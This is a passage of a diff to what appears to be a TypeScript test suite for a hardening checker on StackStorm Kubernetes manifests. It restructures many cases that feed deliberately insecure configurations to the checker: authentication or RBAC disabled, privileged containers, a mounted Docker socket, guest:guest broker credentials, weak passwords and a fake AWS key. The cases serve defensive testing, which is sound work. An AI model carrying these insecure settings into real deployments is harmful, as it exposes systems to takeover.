-    resources: () => [workload('myapp', { container: { image: 'bitnami/etcd:latest' } })],
-    expected: warn('ST2-HRD-001'),
-  },
+  ...rows('ST2-HRD-001', [
+    ['production', 'an image tagged latest is denied in production', () => [workload('myapp', { container: { image: 'stackstorm/st2packs:latest' } })], deny('ST2-HRD-001', { field: 'spec.template.spec.containers.0.image', message: 'problem=latest' })],
+    ['staging', 'an image without a tag is denied in staging', () => [workload('myapp', { container: { image: 'registry.example.test:5000/st2/myapp' } })], deny('ST2-HRD-001', { message: 'problem=no-tag' })],
+    ['dev', 'an image tagged latest is a warning in dev', () => [workload('myapp', { container: { image: 'bitnami/etcd:latest' } })], warn('ST2-HRD-001')],
+  ]),
   {
     name: 'an image pinned by digest behind a registry port is allowed',
     rule: 'ST2-HRD-001',
@@ -821,20 +497,10 @@ const cases: RuleCase[] = [
     ],
     expected: 'allowed',
   },
-  {
-    name: 'a container without limits is denied in production',
-    rule: 'ST2-HRD-002',
-    environment: 'production',
-    resources: () => [workload('myapp', { container: { resources: { requests: { cpu: '100m' } } } })],
-    expected: deny('ST2-HRD-002', { field: 'spec.template.spec.containers.0.resources.limits.cpu', message: 'resource=cpu' }),
-  },
-  {
-    name: 'a container without limits is a warning in staging',
-    rule: 'ST2-HRD-002',
-    environment: 'staging',
-    resources: () => [workload('myapp', { container: { resources: {} } })],
-    expected: warn('ST2-HRD-002'),
-  },
+  ...rows('ST2-HRD-002', [
+    ['production', 'a container without limits is denied in production', () => [workload('myapp', { container: { resources: { requests: { cpu: '100m' } } } })], deny('ST2-HRD-002', { field: 'spec.template.spec.containers.0.resources.limits.cpu', message: 'resource=cpu' })],
+    ['staging', 'a container without limits is a warning in staging', () => [workload('myapp', { container: { resources: {} } })], warn('ST2-HRD-002')],
+  ]),
   {
     name: 'a container without limits in a namespace with a defaulting LimitRange is allowed',
     rule: 'ST2-HRD-002',
@@ -845,27 +511,11 @@ const cases: RuleCase[] = [
     ],
     expected: 'allowed',
   },
-  {
-    name: 'a privileged container is denied in production',
-    rule: 'ST2-HRD-003',
-    environment: 'production',
-    resources: () => [workload('st2actionrunner', { container: { securityContext: { privileged: true } } })],
-    expected: deny('ST2-HRD-003', { field: 'spec.template.spec.containers.0.securityContext.privileged', message: 'problem=privileged' }),
-  },
-  {
-    name: 'a SYS_ADMIN capability is denied in staging',
-    rule: 'ST2-HRD-003',
-    environment: 'staging',
-    resources: () => [workload('myapp', { container: { securityContext: { capabilities: { add: ['sys_admin'] } } } })],
-    expected: deny('ST2-HRD-003', { message: 'capability=SYS_ADMIN' }),
-  },
-  {
-    name: 'a container that forbids privilege escalation is allowed',
-    rule: 'ST2-HRD-003',
-    environment: 'production',
-    resources: () => [workload('myapp', { container: { securityContext: { privileged: false, allowPrivilegeEscalation: false } } })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-HRD-003', [
+    ['production', 'a privileged container is denied in production', () => [workload('st2actionrunner', { container: { securityContext: { privileged: true } } })], deny('ST2-HRD-003', { field: 'spec.template.spec.containers.0.securityContext.privileged', message: 'problem=privileged' })],
+    ['staging', 'a SYS_ADMIN capability is denied in staging', () => [workload('myapp', { container: { securityContext: { capabilities: { add: ['sys_admin'] } } } })], deny('ST2-HRD-003', { message: 'capability=SYS_ADMIN' })],
+    ['production', 'a container that forbids privilege escalation is allowed', () => [workload('myapp', { container: { securityContext: { privileged: false, allowPrivilegeEscalation: false } } })], 'allowed'],
+  ]),
   {
     name: 'an Ingress sending outside traffic to the RabbitMQ management port is denied',
     rule: 'ST2-EXP-008',
@@ -1021,156 +671,44 @@ const cases: RuleCase[] = [
     ],
     expected: deny('ST2-EXP-007', { message: 'service=st2web' }),
   },
-  {
-    name: 'st2.user.conf switching [auth] off is denied in production',
-    rule: 'ST2-HRD-005',
-    environment: 'production',
-    resources: () => [configMap('st2-config', { 'st2.docker.conf': '[auth]\nenable = True\n', 'st2.user.conf': '[api]\nallow_origin = *\n[auth]\nenable = False\n' })],
-    expected: deny('ST2-HRD-005', { field: 'data.st2.user.conf', message: 'section=auth' }),
-  },
-  {
-    name: 'st2.user.conf switching [rbac] off is a warning in dev',
-    rule: 'ST2-HRD-005',
-    environment: 'dev',
-    resources: () => [configMap('st2-config', { 'st2.user.conf': '[rbac]\nenable = off\n' })],
-    expected: { rule: 'ST2-HRD-005', severity: 'warn', message: 'section=rbac' },
-  },
-  {
-    name: 'st2 config with auth and RBAC on (and another section turned off) is allowed',
-    rule: 'ST2-HRD-005',
-    environment: 'production',
-    resources: () => [configMap('st2-config', { 'st2.user.conf': '[auth]\nenable = True\n[rbac]\nenable = true\n[metrics]\nenable = False\n' })],
-    expected: 'allowed',
-  },
-  {
-    name: 'st2 auth switched off in a gzipped config an init container unpacks is denied',
-    rule: 'ST2-HRD-005',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('st2-gz'), binaryData: { 'zz.conf.gz': gzipSync(Buffer.from('[AUTH]\r\nenable = "False"\r\n')).toString('base64') } }],
-    expected: deny('ST2-HRD-005', { field: 'binaryData.zz.conf.gz', message: 'section=auth' }),
-  },
-  {
-    name: 'st2.user.conf, the last file st2garbagecollector reads, turning [log] mask_secrets off is denied',
-    rule: 'ST2-HRD-008',
-    environment: 'staging',
-    resources: () => [...maskedService('[log]\nmask_secrets = False\n')],
-    expected: deny('ST2-HRD-008', { message: 'section=log' }),
-  },
-  {
-    name: 'mask_secrets written out as True (st2\'s default) is allowed',
-    rule: 'ST2-HRD-008',
-    environment: 'production',
-    resources: () => [...maskedService('[api]\nmask_secrets = True\n[log]\nmask_secrets = yes\n')],
-    expected: 'allowed',
-  },
+  ...rows('ST2-HRD-005', [
+    ['production', 'st2.user.conf switching [auth] off is denied in production', () => [configMap('st2-config', { 'st2.docker.conf': '[auth]\nenable = True\n', 'st2.user.conf': '[api]\nallow_origin = *\n[auth]\nenable = False\n' })], deny('ST2-HRD-005', { field: 'data.st2.user.conf', message: 'section=auth' })],
+    ['dev', 'st2.user.conf switching [rbac] off is a warning in dev', () => [configMap('st2-config', { 'st2.user.conf': '[rbac]\nenable = off\n' })], { rule: 'ST2-HRD-005', severity: 'warn', message: 'section=rbac' }],
+    ['production', 'st2 config with auth and RBAC on (and another section turned off) is allowed', () => [configMap('st2-config', { 'st2.user.conf': '[auth]\nenable = True\n[rbac]\nenable = true\n[metrics]\nenable = False\n' })], 'allowed'],
+    ['production', 'st2 auth switched off in a gzipped config an init container unpacks is denied', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('st2-gz'), binaryData: { 'zz.conf.gz': gzipSync(Buffer.from('[AUTH]\r\nenable = "False"\r\n')).toString('base64') } }], deny('ST2-HRD-005', { field: 'binaryData.zz.conf.gz', message: 'section=auth' })],
+  ]),
+  ...rows('ST2-HRD-008', [
+    ['staging', 'st2.user.conf, the last file st2garbagecollector reads, turning [log] mask_secrets off is denied', () => [...maskedService('[log]\nmask_secrets = False\n')], deny('ST2-HRD-008', { message: 'section=log' })],
+    ['production', 'mask_secrets written out as True (st2\'s default) is allowed', () => [...maskedService('[api]\nmask_secrets = True\n[log]\nmask_secrets = yes\n')], 'allowed'],
+  ]),
   // --- ST2-HRD-009/010: st2 config as oslo.config 1.12 and st2 use it ----------------------------
-  {
-    name: 'an st2 config file starting with a UTF-8 BOM (oslo.config refuses it) is denied',
-    rule: 'ST2-HRD-009',
-    environment: 'production',
-    resources: () => [...maskedService('\ufeff[api]\nallow_origin = https://st2.example.com\n')],
-    expected: deny('ST2-HRD-009', { message: "No ':' or '='" }),
-  },
-  {
-    name: 'an indented first line (no value to continue) is denied in staging',
-    rule: 'ST2-HRD-009',
-    environment: 'staging',
-    resources: () => [...maskedService('  [log]\n  mask_secrets = True\n')],
-    expected: deny('ST2-HRD-009', { message: 'Unexpected continuation line' }),
-  },
-  {
-    name: 'a database port with an inline comment (not an integer) warns in dev',
-    rule: 'ST2-HRD-009',
-    environment: 'dev',
-    resources: () => [...maskedService('[database]\nport = 27017  # mongo\n')],
-    expected: warn('ST2-HRD-009'),
-  },
-  {
-    name: 'CRLF, tabs inside values, `key: value`, duplicate sections and comment lines are what oslo reads: allowed',
-    rule: 'ST2-HRD-009',
-    environment: 'production',
-    resources: () => [...maskedService('# ops\r\n[database]\r\nport: 27017\r\n\r\n[log]\r\n; keep\r\nmask_secrets\t=\tTrue\r\n[database]\r\nconnection_timeout = 3000\r\n')],
-    expected: 'allowed',
-  },
-  {
-    name: '[database] db_name other than the bundle\'s database is denied',
-    rule: 'ST2-HRD-010',
-    environment: 'production',
-    resources: () => [...maskedService('[database]\ndb_name = st2_v2\n')],
-    expected: deny('ST2-HRD-010', { message: 'option=database.db_name' }),
-  },
-  {
-    name: '[database] db_name written as st2\'s default is allowed',
-    rule: 'ST2-HRD-010',
-    environment: 'production',
-    resources: () => [...maskedService('[database]\ndb_name = st2\n')],
-    expected: 'allowed',
-  },
+  ...rows('ST2-HRD-009', [
+    ['production', 'an st2 config file starting with a UTF-8 BOM (oslo.config refuses it) is denied', () => [...maskedService('\ufeff[api]\nallow_origin = https://st2.example.com\n')], deny('ST2-HRD-009', { message: "No ':' or '='" })],
+    ['staging', 'an indented first line (no value to continue) is denied in staging', () => [...maskedService('  [log]\n  mask_secrets = True\n')], deny('ST2-HRD-009', { message: 'Unexpected continuation line' })],
+    ['dev', 'a database port with an inline comment (not an integer) warns in dev', () => [...maskedService('[database]\nport = 27017  # mongo\n')], warn('ST2-HRD-009')],
+    ['production', 'CRLF, tabs inside values, `key: value`, duplicate sections and comment lines are what oslo reads: allowed', () => [...maskedService('# ops\r\n[database]\r\nport: 27017\r\n\r\n[log]\r\n; keep\r\nmask_secrets\t=\tTrue\r\n[database]\r\nconnection_timeout = 3000\r\n')], 'allowed'],
+  ]),
+  ...rows('ST2-HRD-010', [
+    ['production', '[database] db_name other than the bundle\'s database is denied', () => [...maskedService('[database]\ndb_name = st2_v2\n')], deny('ST2-HRD-010', { message: 'option=database.db_name' })],
+    ['production', '[database] db_name written as st2\'s default is allowed', () => [...maskedService('[database]\ndb_name = st2\n')], 'allowed'],
+  ]),
   // --- ST2-HRD-011/012: how st2auth checks a login ------------------------------------------------
-  {
-    name: 'st2auth in [auth] mode = proxy is denied',
-    rule: 'ST2-HRD-011',
-    environment: 'production',
-    resources: () => authService('[auth]\nmode = proxy\n'),
-    expected: deny('ST2-HRD-011', { message: 'problem=proxy-mode-no-password-check' }),
-  },
-  {
-    name: 'st2auth given --auth-mode=proxy on its command line is denied',
-    rule: 'ST2-HRD-011',
-    environment: 'production',
-    resources: () => authService('[auth]\nmode = standalone\n', ['--auth-mode=proxy']),
-    expected: deny('ST2-HRD-011', { message: 'file=(command line)' }),
-  },
-  {
-    name: 'a mode st2auth refuses (Proxy) is denied',
-    rule: 'ST2-HRD-011',
-    environment: 'production',
-    resources: () => authService('[auth]\nmode = Proxy\n'),
-    expected: deny('ST2-HRD-011', { message: 'problem=unknown-mode' }),
-  },
-  {
-    name: 'proxy mode in dev warns',
-    rule: 'ST2-HRD-011',
-    environment: 'dev',
-    resources: () => authService('[auth]\nmode = proxy\n'),
-    expected: warn('ST2-HRD-011'),
-  },
-  {
-    name: 'st2auth in standalone mode is allowed',
-    rule: 'ST2-HRD-011',
-    environment: 'production',
-    resources: () => authService('[auth]\nmode = standalone\nbackend = flat_file\n'),
-    expected: 'allowed',
-  },
-  {
-    name: 'the LDAP backend on port 389 without use_ssl or use_tls is denied',
-    rule: 'ST2-HRD-012',
-    environment: 'production',
-    resources: () => authService('[auth]\nbackend = ldap\nbackend_kwargs = {"host": "ldap.example.net", "port": 389, "use_ssl": false}\n'),
-    expected: deny('ST2-HRD-012', { message: 'problem=ldap-without-tls' }),
-  },
-  {
-    name: 'the LDAP backend over LDAPS is allowed',
-    rule: 'ST2-HRD-012',
-    environment: 'production',
-    resources: () => authService('[auth]\nbackend = ldap\nbackend_kwargs = {"host": "ldap.example.net", "port": 636, "use_ssl": true}\n'),
-    expected: 'allowed',
-  },
+  ...rows('ST2-HRD-011', [
+    ['production', 'st2auth in [auth] mode = proxy is denied', () => authService('[auth]\nmode = proxy\n'), deny('ST2-HRD-011', { message: 'problem=proxy-mode-no-password-check' })],
+    ['production', 'st2auth given --auth-mode=proxy on its command line is denied', () => authService('[auth]\nmode = standalone\n', ['--auth-mode=proxy']), deny('ST2-HRD-011', { message: 'file=(command line)' })],
+    ['production', 'a mode st2auth refuses (Proxy) is denied', () => authService('[auth]\nmode = Proxy\n'), deny('ST2-HRD-011', { message: 'problem=unknown-mode' })],
+    ['dev', 'proxy mode in dev warns', () => authService('[auth]\nmode = proxy\n'), warn('ST2-HRD-011')],
+    ['production', 'st2auth in standalone mode is allowed', () => authService('[auth]\nmode = standalone\nbackend = flat_file\n'), 'allowed'],
+  ]),
+  ...rows('ST2-HRD-012', [
+    ['production', 'the LDAP backend on port 389 without use_ssl or use_tls is denied', () => authService('[auth]\nbackend = ldap\nbackend_kwargs = {"host": "ldap.example.net", "port": 389, "use_ssl": false}\n'), deny('ST2-HRD-012', { message: 'problem=ldap-without-tls' })],
+    ['production', 'the LDAP backend over LDAPS is allowed', () => authService('[auth]\nbackend = ldap\nbackend_kwargs = {"host": "ldap.example.net", "port": 636, "use_ssl": true}\n'), 'allowed'],
+  ]),
   // --- ST2-HRD-013: st2's own RBAC ---------------------------------------------------------------
-  {
-    name: 'an st2 RBAC mapping of Domain Users to admin is denied',
-    rule: 'ST2-HRD-013',
-    environment: 'production',
-    resources: () => [configMap('st2-rbac-mappings', { 'all.yaml': '---\ngroup: "CN=Domain Users,CN=Users,DC=example,DC=com"\nenabled: true\nroles:\n  - admin\n' })],
-    expected: deny('ST2-HRD-013', { message: 'problem=admin-role-for-a-broad-group' }),
-  },
-  {
-    name: 'a custom st2 role granting pack_install globally is denied',
-    rule: 'ST2-HRD-013',
-    environment: 'production',
-    resources: () => [configMap('st2-rbac-roles', { 'dev.yaml': '---\nname: dev\nenabled: true\npermission_grants:\n  - permission_types: [pack_install]\n' })],
-    expected: deny('ST2-HRD-013', { message: 'problem=custom-role-runs-code' }),
-  },
+  ...rows('ST2-HRD-013', [
+    ['production', 'an st2 RBAC mapping of Domain Users to admin is denied', () => [configMap('st2-rbac-mappings', { 'all.yaml': '---\ngroup: "CN=Domain Users,CN=Users,DC=example,DC=com"\nenabled: true\nroles:\n  - admin\n' })], deny('ST2-HRD-013', { message: 'problem=admin-role-for-a-broad-group' })],
+    ['production', 'a custom st2 role granting pack_install globally is denied', () => [configMap('st2-rbac-roles', { 'dev.yaml': '---\nname: dev\nenabled: true\npermission_grants:\n  - permission_types: [pack_install]\n' })], deny('ST2-HRD-013', { message: 'problem=custom-role-runs-code' })],
+  ]),
   {
     name: 'admin for a dedicated group and a scoped role for Domain Users are allowed',
     rule: 'ST2-HRD-013',
@@ -1211,72 +749,26 @@ const cases: RuleCase[] = [
     expected: 'allowed',
   },
   // --- ST2-HRD-019: writes unacknowledged, reads from secondaries -----------------------------------
-  {
-    name: 'w=0 in st2\'s MongoDB URI (unacknowledged writes) is denied in production',
-    rule: 'ST2-HRD-019',
-    environment: 'production',
-    resources: () => authService('[database]\nhost = mongodb://mongodb:27017/?replicaSet=rs0&w=0\nusername = st2\n'),
-    expected: deny('ST2-HRD-019', { message: 'problem=write-unacknowledged' }),
-  },
-  {
-    name: 'w=majority with a 5 s write timeout and primaryPreferred reads are allowed',
-    rule: 'ST2-HRD-019',
-    environment: 'production',
-    resources: () => authService('[database]\nhost = mongodb://mongodb:27017/?replicaSet=rs0&w=majority&wtimeoutMS=5000&readPreference=primaryPreferred\nusername = st2\n'),
-    expected: 'allowed',
-  },
+  ...rows('ST2-HRD-019', [
+    ['production', 'w=0 in st2\'s MongoDB URI (unacknowledged writes) is denied in production', () => authService('[database]\nhost = mongodb://mongodb:27017/?replicaSet=rs0&w=0\nusername = st2\n'), deny('ST2-HRD-019', { message: 'problem=write-unacknowledged' })],
+    ['production', 'w=majority with a 5 s write timeout and primaryPreferred reads are allowed', () => authService('[database]\nhost = mongodb://mongodb:27017/?replicaSet=rs0&w=majority&wtimeoutMS=5000&readPreference=primaryPreferred\nusername = st2\n'), 'allowed'],
+  ]),
   // --- ST2-OPS-050: an Ingress backend the Service cannot serve -------------------------------------
-  {
-    name: 'an Ingress backend on a port its Service does not have is denied',
-    rule: 'ST2-OPS-050',
-    environment: 'production',
-    resources: () => [st2webService(), st2webIngress({ number: 80 }, 'HTTPS')],
-    expected: deny('ST2-OPS-050'),
-  },
-  {
-    name: "an nginx Ingress without backend-protocol HTTPS to st2web's TLS port is denied",
-    rule: 'ST2-OPS-050',
-    environment: 'production',
-    resources: () => [st2webService(), st2webIngress({ number: 443 }, undefined)],
-    expected: deny('ST2-OPS-050'),
-  },
-  {
-    name: "an nginx Ingress speaking HTTPS to st2web's port by name is allowed",
-    rule: 'ST2-OPS-050',
-    environment: 'production',
-    resources: () => [st2webService(), st2webIngress({ name: 'https' }, 'HTTPS')],
-    expected: 'allowed',
-  },
+  ...rows('ST2-OPS-050', [
+    ['production', 'an Ingress backend on a port its Service does not have is denied', () => [st2webService(), st2webIngress({ number: 80 }, 'HTTPS')], deny('ST2-OPS-050')],
+    ['production', "an nginx Ingress without backend-protocol HTTPS to st2web's TLS port is denied", () => [st2webService(), st2webIngress({ number: 443 }, undefined)], deny('ST2-OPS-050')],
+    ['production', "an nginx Ingress speaking HTTPS to st2web's port by name is allowed", () => [st2webService(), st2webIngress({ name: 'https' }, 'HTTPS')], 'allowed'],
+  ]),
 
-  {
-    name: 'two sensor containers whose hash ranges leave a gap are denied',
-    rule: 'ST2-OPS-036',
-    environment: 'production',
-    resources: () => [...hashSensor('a', 'MIN..1000'), ...hashSensor('b', '2000..MAX')],
-    expected: deny('ST2-OPS-036'),
-  },
-  {
-    name: 'two sensor containers whose hash ranges meet end to end are allowed',
-    rule: 'ST2-OPS-036',
-    environment: 'production',
-    resources: () => [...hashSensor('a', 'min..2000'), ...hashSensor('b', '2000..max')],
-    expected: 'allowed',
-  },
+  ...rows('ST2-OPS-036', [
+    ['production', 'two sensor containers whose hash ranges leave a gap are denied', () => [...hashSensor('a', 'MIN..1000'), ...hashSensor('b', '2000..MAX')], deny('ST2-OPS-036')],
+    ['production', 'two sensor containers whose hash ranges meet end to end are allowed', () => [...hashSensor('a', 'min..2000'), ...hashSensor('b', '2000..max')], 'allowed'],
+  ]),
   // --- ST2-SEC-013/014: credentials in git -----------------------------------------------------------
-  {
-    name: 'a literal password in an ExternalSecret template is denied',
-    rule: 'ST2-SEC-013',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 's' }, target: { name: 'st2-auth', template: { data: { username: '{{ .u }}', password: 'k3Vq-9LmZ-x2Rt' } } }, data: [{ secretKey: 'u', remoteRef: { key: 'a', property: 'u' } }] } }],
-    expected: deny('ST2-SEC-013', { message: 'kind=template-literal' }),
-  },
-  {
-    name: 'an AWS access key in a ConfigMap is denied',
-    rule: 'ST2-SEC-013',
-    environment: 'production',
-    resources: () => [configMap('pack-configs', { 'aws.yaml': `aws_access_key_id: AKIA${'ZQ4X7M2P9KLR3TWN'}\n` })],
-    expected: deny('ST2-SEC-013', { message: 'aws-access-key' }),
-  },
+  ...rows('ST2-SEC-013', [
+    ['production', 'a literal password in an ExternalSecret template is denied', () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 's' }, target: { name: 'st2-auth', template: { data: { username: '{{ .u }}', password: 'k3Vq-9LmZ-x2Rt' } } }, data: [{ secretKey: 'u', remoteRef: { key: 'a', property: 'u' } }] } }], deny('ST2-SEC-013', { message: 'kind=template-literal' })],
+    ['production', 'an AWS access key in a ConfigMap is denied', () => [configMap('pack-configs', { 'aws.yaml': `aws_access_key_id: AKIA${'ZQ4X7M2P9KLR3TWN'}\n` })], deny('ST2-SEC-013', { message: 'aws-access-key' })],
+  ]),
   {
     name: 'store placeholders in a template and datastore references in a pack config are allowed',
     rule: 'ST2-SEC-013',
@@ -1287,128 +779,40 @@ const cases: RuleCase[] = [
     ],
     expected: 'allowed',
   },
-  {
-    name: 'a weak password in a Secret is denied, whatever its case and blanks',
-    rule: 'ST2-SEC-014',
-    environment: 'production',
-    resources: () => [secret('db', { stringData: { 'db-password': ' PassWord1 ' } })],
-    expected: deny('ST2-SEC-014', { message: 'key=db-password' }),
-  },
-  {
-    name: 'a long random password in a Secret is allowed',
-    rule: 'ST2-SEC-014',
-    environment: 'production',
-    resources: () => [secret('db', { stringData: { 'db-password': 'vR7q-Lm2x9Tz4Kw8Yp3N' } })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-SEC-014', [
+    ['production', 'a weak password in a Secret is denied, whatever its case and blanks', () => [secret('db', { stringData: { 'db-password': ' PassWord1 ' } })], deny('ST2-SEC-014', { message: 'key=db-password' })],
+    ['production', 'a long random password in a Secret is allowed', () => [secret('db', { stringData: { 'db-password': 'vR7q-Lm2x9Tz4Kw8Yp3N' } })], 'allowed'],
+  ]),
   // --- ST2-REP-016: store settings that stop the store serving ------------------------------------
-  {
-    name: 'mongod bound to localhost only is denied',
-    rule: 'ST2-REP-016',
-    environment: 'production',
-    resources: () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/etc/mongo/key', '--bind_ip', 'localhost'] } }),
-    expected: deny('ST2-REP-016', { message: 'setting=bind_loopback' }),
-  },
-  {
-    name: 'mongod with the entrypoint\'s own bind (all interfaces) and a modest cache is allowed',
-    rule: 'ST2-REP-016',
-    environment: 'production',
-    resources: () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/etc/mongo/key', '--wiredTigerCacheSizeGB', '0.25'] } }),
-    expected: 'allowed',
-  },
-  {
-    name: 'MongoDB run without --keyFile, --auth or a root user is denied',
-    rule: 'ST2-HRD-007',
-    environment: 'staging',
-    resources: () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--bind_ip_all'] } }),
-    expected: deny('ST2-HRD-007', { message: 'problem=no-access-control' }),
-  },
-  {
-    name: 'MongoDB with a keyFile is allowed',
-    rule: 'ST2-HRD-007',
-    environment: 'production',
-    resources: () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet=rs0', '--keyFile=/k/key.txt'] } }),
-    expected: 'allowed',
-  },
-  {
-    name: "st2 connecting to RabbitMQ as guest:guest is denied",
-    rule: 'ST2-SEC-008',
-    environment: 'production',
-    resources: () => [configMap('st2-config', { 'st2.user.conf': '[messaging]\nurl = amqp://guest:guest@rabbitmq:5672/\n' })],
-    expected: deny('ST2-SEC-008', { message: 'problem=guest-credentials' }),
-  },
-  {
-    name: "RabbitMQ's loopback opened with its own default user is allowed",
-    rule: 'ST2-SEC-008',
-    environment: 'production',
-    resources: () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'loopback_users.guest = false\ndefault_user = st2\n' })],
-    expected: 'allowed',
-  },
-  {
-    name: "RabbitMQ's loopback opened with no default user (guest/guest) is denied",
-    rule: 'ST2-SEC-008',
-    environment: 'production',
-    resources: () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'loopback_users = none\n' })],
-    expected: deny('ST2-SEC-008', { message: 'problem=loopback-open-guest-kept' }),
-  },
-  {
-    name: 'a Namespace whose Pod Security enforcement is lowered to privileged is denied',
-    rule: 'ST2-HRD-006',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } }],
-    expected: deny('ST2-HRD-006', { field: 'metadata.labels.pod-security.kubernetes.io/enforce', message: 'level=privileged' }),
-  },
-  {
-    name: 'a hostPath volume (the Docker socket) is denied in staging',
-    rule: 'ST2-HRD-006',
-    environment: 'staging',
-    resources: () => [workload('st2actionrunner', { pod: { volumes: [{ name: 'sock', hostPath: { path: '/var/run/docker.sock' } }] } })],
-    expected: deny('ST2-HRD-006', { field: 'spec.template.spec.volumes.0.hostPath', message: 'path=/var/run/docker.sock' }),
-  },
-  {
-    name: 'a Namespace enforcing baseline is allowed',
-    rule: 'ST2-HRD-006',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'baseline' } } }],
-    expected: 'allowed',
-  },
-  {
-    name: 'two st2api replicas without a PodDisruptionBudget are denied in production',
-    rule: 'ST2-HRD-004',
-    environment: 'production',
-    resources: () => [workload('st2api', { replicas: 2 })],
-    expected: deny('ST2-HRD-004', { field: 'metadata.name', message: 'component=st2api' }),
-  },
-  {
-    name: 'two st2api replicas with a matching PodDisruptionBudget are allowed',
-    rule: 'ST2-HRD-004',
-    environment: 'production',
-    resources: () => [workload('st2api', { replicas: 2 }), pdb('st2api')],
-    expected: 'allowed',
-  },
+  ...rows('ST2-REP-016', [
+    ['production', 'mongod bound to localhost only is denied', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/etc/mongo/key', '--bind_ip', 'localhost'] } }), deny('ST2-REP-016', { message: 'setting=bind_loopback' })],
+    ['production', 'mongod with the entrypoint\'s own bind (all interfaces) and a modest cache is allowed', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/etc/mongo/key', '--wiredTigerCacheSizeGB', '0.25'] } }), 'allowed'],
+  ]),
+  ...rows('ST2-HRD-007', [
+    ['staging', 'MongoDB run without --keyFile, --auth or a root user is denied', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--bind_ip_all'] } }), deny('ST2-HRD-007', { message: 'problem=no-access-control' })],
+    ['production', 'MongoDB with a keyFile is allowed', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet=rs0', '--keyFile=/k/key.txt'] } }), 'allowed'],
+  ]),
+  ...rows('ST2-SEC-008', [
+    ['production', "st2 connecting to RabbitMQ as guest:guest is denied", () => [configMap('st2-config', { 'st2.user.conf': '[messaging]\nurl = amqp://guest:guest@rabbitmq:5672/\n' })], deny('ST2-SEC-008', { message: 'problem=guest-credentials' })],
+    ['production', "RabbitMQ's loopback opened with its own default user is allowed", () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'loopback_users.guest = false\ndefault_user = st2\n' })], 'allowed'],
+    ['production', "RabbitMQ's loopback opened with no default user (guest/guest) is denied", () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'loopback_users = none\n' })], deny('ST2-SEC-008', { message: 'problem=loopback-open-guest-kept' })],
+  ]),
+  ...rows('ST2-HRD-006', [
+    ['production', 'a Namespace whose Pod Security enforcement is lowered to privileged is denied', () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } }], deny('ST2-HRD-006', { field: 'metadata.labels.pod-security.kubernetes.io/enforce', message: 'level=privileged' })],
+    ['staging', 'a hostPath volume (the Docker socket) is denied in staging', () => [workload('st2actionrunner', { pod: { volumes: [{ name: 'sock', hostPath: { path: '/var/run/docker.sock' } }] } })], deny('ST2-HRD-006', { field: 'spec.template.spec.volumes.0.hostPath', message: 'path=/var/run/docker.sock' })],
+    ['production', 'a Namespace enforcing baseline is allowed', () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'baseline' } } }], 'allowed'],
+  ]),
+  ...rows('ST2-HRD-004', [
+    ['production', 'two st2api replicas without a PodDisruptionBudget are denied in production', () => [workload('st2api', { replicas: 2 })], deny('ST2-HRD-004', { field: 'metadata.name', message: 'component=st2api' })],
+    ['production', 'two st2api replicas with a matching PodDisruptionBudget are allowed', () => [workload('st2api', { replicas: 2 }), pdb('st2api')], 'allowed'],
+  ]),
   // --- ST2-OPS-*: what the cluster does with the manifests (the fifth red team) ---
-  {
-    name: 'an Argo CD Application syncing into the st2 namespace is denied',
-    rule: 'ST2-OPS-001',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'extras', namespace: 'argocd' }, spec: { source: { repoURL: 'https://git.example/x.git', path: 'overlays/dev' }, destination: { namespace: 'st2-prod' } } }],
-    expected: deny('ST2-OPS-001', { field: 'spec.destination.namespace', message: 'namespace=st2-prod' }),
-  },
-  {
+  ...rows('ST2-OPS-001', [
+    ['production', 'an Argo CD Application syncing into the st2 namespace is denied', () => [{ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'extras', namespace: 'argocd' }, spec: { source: { repoURL: 'https://git.example/x.git', path: 'overlays/dev' }, destination: { namespace: 'st2-prod' } } }], deny('ST2-OPS-001', { field: 'spec.destination.namespace', message: 'namespace=st2-prod' })],
     // What it syncs cannot be judged wherever it points (the seventh red team's Fleet GitRepo).
-    name: 'an Argo CD Application for another namespace is denied too',
-    rule: 'ST2-OPS-001',
-    environment: 'production',
